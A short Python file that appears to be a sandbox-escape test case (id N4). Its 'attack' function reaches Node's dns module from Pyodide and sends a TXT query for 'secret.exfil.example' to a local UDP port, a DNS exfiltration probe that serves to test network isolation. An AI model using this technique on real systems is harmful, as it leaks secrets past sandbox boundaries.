"""A secret in the question to a name server.

id: N4
canary: udp
"""

import js
from pyodide.ffi import to_js


async def attack(target):
    options = to_js({"timeout": 200, "tries": 1}, dict_converter=js.Object.fromEntries)
    resolver = js.process.getBuiltinModule("dns").promises.Resolver.new(options)
    resolver.setServers(to_js([f"127.0.0.1:{target.udp}"]))
    return await resolver.resolveTxt("secret.exfil.example")
